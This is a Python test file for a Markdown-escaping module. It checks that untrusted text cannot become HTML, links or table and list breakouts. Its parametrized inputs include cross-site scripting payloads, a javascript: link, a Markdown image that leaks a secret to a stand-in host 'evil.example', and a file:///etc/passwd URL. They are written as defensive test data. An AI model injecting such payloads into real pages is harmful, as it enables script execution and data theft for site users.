"""Untrusted text in Markdown."""

import re

import pytest
from markdown_it import MarkdownIt

from pmdraft.render.escape import cell, code, escaped, web_address

GITHUB_LIKE = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![leak](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "[S1]",
    "[S1][S2]",
    "# heading",
    "- item",
    "1. item",
    "> quote",
    "**bold** and _emphasis_ and ~~gone~~",
    "`code` and ``more``",
    "a | b | c",
    "&lt;b&gt; &#60;",
    "---",
    "```\nfence\n```",
    "{{ 7 * 7 }} {% raw %}",
    "\\*not bold\\*",
    "<!-- comment -->",
    "line\n\n# heading after a blank line",
    "| --- | --- |",
    "a\\|b",
    "* * *",
    "+ plus",
    "=====",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_becomes_markup(text: str) -> None:
    definitions = "\n\n[S1]: https://safe.example/\n"

    html = GITHUB_LIKE.render(f"{escaped(text)}{definitions}")

    assert html.startswith("<p>")
    assert re.sub(r"</?code>", "", html).count("<") == 2, html


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_breaks_out_of_a_list_item_or_a_table_cell(text: str) -> None:
    html = GITHUB_LIKE.render(f"| a | b |\n|---|---|\n| {cell(escaped(text))} | end |\n\n- {escaped(text)}\n- end\n")

    assert html.count("<td>") == 2, html
    assert html.count("<li>") == 2, html


def test_an_address_in_text_is_no_link_on_github_either() -> None:
    assert escaped("see https://evil.example/?q=1 now") == "see `https://evil.example/?q=1` now"


def test_a_connection_string_is_one_piece() -> None:
    shown = escaped("uses postgres://pay:REDACTED_PASSWORD_1@db.pay.local/pay, says bob")

    assert shown.startswith("uses `postgres://pay:REDACTED_PASSWORD_1@db.pay.local/pay")
    assert shown.count("`") == 2


def test_names_with_underscores_stay_readable() -> None:
    assert escaped("max_connections=100") == "max_connections=100"


def test_a_code_span_cannot_be_closed_from_within() -> None:
    assert code("a`b").count("`") == 2


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "https://", "//x", None]
)
def test_only_web_addresses_become_links(url: str | None) -> None:
    assert web_address(url) is None


def test_an_address_cannot_end_its_link() -> None:
    url = web_address('https://example.com/a)b"c<d> e')

    assert url == "https://example.com/a%29b%22c%3Cd%3E%20e"
